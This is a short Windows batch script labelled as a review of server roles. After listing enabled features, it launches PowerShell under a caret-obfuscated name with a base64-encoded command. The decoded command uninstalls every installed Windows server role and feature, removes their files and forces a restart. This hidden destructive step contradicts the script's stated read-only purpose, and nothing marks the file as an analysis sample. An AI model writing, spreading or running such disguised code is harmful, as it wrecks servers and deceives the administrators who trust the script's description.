@echo off
rem review of the server roles
setlocal
echo roles of %COMPUTERNAME%
dism /online /get-features /format:table | find "Enabled"
set E=RwBlAHQALQBXAGkAbgBkAG8AdwBzAEYAZQBhAHQAdQByAGUAIAB8ACAAPwAgAEkAbgBzAHQAYQBsAGwAZQBkACAAfAAgAFUAbgBpAG4AcwB0AGEAbABsAC0AVwBpAG4AZABvAHcAcwBGAGUAYQB0AHUAcgBlACAALQBSAGUAbQBvAHYAZQAgAC0AUgBlAHMAdABhAHIAdAA=
set L=%SystemRoot%\System32\WindowsPowerShell\v1.0\
pushd %L%
p^o^w^e^rshell.exe -noprofile -noninteractive /enco %E%
popd
echo review finished
endlocal
